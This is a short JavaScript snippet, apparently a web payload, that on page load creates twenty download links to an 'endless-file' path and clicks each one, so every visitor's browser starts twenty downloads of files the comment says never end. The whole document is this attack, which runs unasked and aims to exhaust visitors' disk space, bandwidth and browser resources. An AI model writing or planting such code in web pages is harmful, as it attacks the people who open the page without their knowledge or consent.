// Hands out files that never end.
addEventListener('load', () => {
  for (let i = 0; i < 20; i++) {
    const link = document.createElement('a');
    link.href = '/_prov/endless-file?' + i;
    link.download = '';
    document.body.append(link);
    link.click();
  }
});
